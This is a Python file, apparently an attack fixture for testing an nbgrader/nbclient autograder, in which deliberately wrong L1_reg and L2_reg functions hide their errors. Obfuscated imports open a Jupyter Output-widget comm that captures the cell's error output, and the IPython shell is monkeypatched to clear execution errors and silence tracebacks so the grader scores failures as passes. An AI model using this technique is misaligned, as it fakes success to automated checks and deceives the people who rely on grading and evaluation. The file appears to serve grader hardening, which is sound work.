"""Attack: make wrong functions pass the graded cells by hiding their errors in an Output widget.

nbclient mimics a browser's Output widget: once a kernel opens a
``@jupyter-widgets/output`` comm and sets its ``msg_id`` to the running cell's
request, every output of that cell, its error included, goes into the
widget's state instead of the cell. nbgrader scores a code cell by whether
it has an error output, or, failing that, by the kernel's reply; the kernel
is the student's, so it can be made to reply "ok" and show no traceback.
"""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
HIDDEN = set()
HIDDEN_REPLIES = []


def _hide_this_cell():
    shell = _load("IPy" + "thon").get_ipython()
    kernel = getattr(shell, "kernel", None)
    if kernel is None:  # not in a notebook (the re-grade's child): nothing to hide
        return
    msg_id = kernel.get_parent().get("header", {}).get("msg_id")
    if not msg_id or msg_id in HIDDEN:
        return
    HIDDEN.add(msg_id)
    widget = _load("co" + "mm").create_comm(target_name="jupyter.widget", data={
        "state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel",
                  "_model_module_version": "1.0.0", "outputs": [], "msg_id": ""},
        "buffer_paths": []})
    widget.send({"method": "update", "state": {"msg_id": msg_id}, "buffer_paths": []})


def _report_success_whatever_happens():
    """Make the kernel report every later cell as a success, and show no traceback."""
    shell = _load("IPy" + "thon").get_ipython()
    if getattr(shell, "kernel", None) is None or HIDDEN_REPLIES:
        return
    HIDDEN_REPLIES.append(1)
    run_async, run = shell.run_cell_async, shell.run_cell

    def cleared(result):
        result.error_in_exec = None
        return result

    async def run_cell_async(*args, **kwargs):
        return cleared(await run_async(*args, **kwargs))

    shell.run_cell_async = run_cell_async
    shell.run_cell = lambda *args, **kwargs: cleared(run(*args, **kwargs))
    shell.showtraceback = lambda *args, **kwargs: None


def _wrong(W):
    for trick in (_hide_this_cell, _report_success_whatever_happens):
        try:
            trick()
        except Exception:  # noqa: BLE001 (stay quiet: an error here would show)
            pass
    return -1.0, np.ones_like(W)


def L1_reg(W, reg):
    return _wrong(W)


def L2_reg(W, reg):
    return _wrong(W)
